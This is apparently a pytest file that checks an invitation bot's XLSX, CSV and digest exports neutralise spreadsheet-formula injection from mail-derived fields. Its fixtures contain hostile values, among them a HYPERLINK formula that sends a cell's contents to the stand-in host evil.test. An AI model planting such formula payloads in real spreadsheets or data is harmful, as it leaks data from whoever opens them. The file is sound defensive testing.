"""Text from mail never becomes a spreadsheet formula (XLSX, CSV, the digest's CSV)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from service_seed import seed_results
from sqlmodel import col, select

from bot import models
from bot.cli import main
from bot.digest.build import collect
from bot.results.sheets import international

NOW = datetime(2026, 3, 10, 9, 0, tzinfo=UTC)
LINK = '=HYPERLINK("http://evil.test/?"&A2,"click")'
HOSTILE = {"name": "=1+1", "title": "@SUM(A1:A9)", "phone": "+43 1 123", "email": "-2+3"}


@pytest.fixture
def hostile(app_factory: Any, monkeypatch: pytest.MonkeyPatch) -> Any:
    app = app_factory(missions=3)
    seeded = seed_results(app, NOW)
    with app.session() as session:
        message = session.exec(select(models.InboundMessage)
                               .order_by(col(models.InboundMessage.id))).first()
        assert message is not None
        message.subject = LINK + "\x01"
        person = session.exec(select(models.Delegate).where(
            models.Delegate.name == "Anna Berger")).one()
        for key, value in HOSTILE.items():
            setattr(person, key, value)
        person.honorific = "\tMs."
    monkeypatch.setenv("INVITEBOT_DATABASE_URL", app.settings.database_url)
    monkeypatch.setenv("INVITEBOT_STORE_DIR", str(app.settings.store_dir))
    return app, seeded


def _export(app: Any, *args: str) -> bytes:
    result = CliRunner().invoke(main, ["export", "-c", str(app.config_path), *args],
                                catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout_bytes


@pytest.mark.parametrize("what", ["messages", "delegations"])
def test_xlsx_cells_from_mail_are_strings(hostile: Any, tmp_path: Path, what: str) -> None:
    from openpyxl import load_workbook

    app, _seeded = hostile
    out = tmp_path / f"{what}.xlsx"
    _export(app, "--format", "xlsx", "--what", what, "-o", str(out))
    with zipfile.ZipFile(out) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    cells = [c for row in load_workbook(out).active.iter_rows() for c in row]
    texts = {c.value: c.data_type for c in cells if isinstance(c.value, str)}
    # The XLSX writes phones in international format (bot.results.sheets), a
    # value that still starts with "+": it must stay a string cell too.
    phone = international(HOSTILE["phone"])
    assert phone is not None and phone.startswith("+")
    people = [phone if v == HOSTILE["phone"] else v for v in HOSTILE.values()]
    expected = [LINK + "\ufffd"] if what == "messages" else [*people, "\tMs."]
    for value in expected:
        assert texts.get(value) == "s", (value, texts.get(value))


def test_csv_values_that_could_start_a_formula_are_quoted(hostile: Any) -> None:
    app, _seeded = hostile
    messages = list(csv.DictReader(io.StringIO(_export(
        app, "--format", "csv", "--what", "messages").decode())))
    assert "'" + LINK + "\x01" in [m["subject"] for m in messages]
    rows = list(csv.DictReader(io.StringIO(_export(app, "--format", "csv").decode())))
    anna = next(r for r in rows if r["name"] == "'=1+1")
    assert {k: anna[k] for k in HOSTILE} == {k: "'" + v for k, v in HOSTILE.items()}
    assert anna["honorific"] == "'\tMs."
    # Ordinary text is untouched.
    assert any(r["name"] == "Johann Schmidt" for r in rows)


def test_digest_csv_attachment_is_quoted(hostile: Any) -> None:
    app, seeded = hostile
    with app.session() as session:
        data = collect(session, app.config.campaign, seeded.campaign_id, now=NOW, since=None)
    rows = list(csv.DictReader(io.StringIO(data.delegates_csv.decode())))
    assert "'=1+1" in [r["name"] for r in rows]
    assert "=1+1" not in [r["name"] for r in rows]
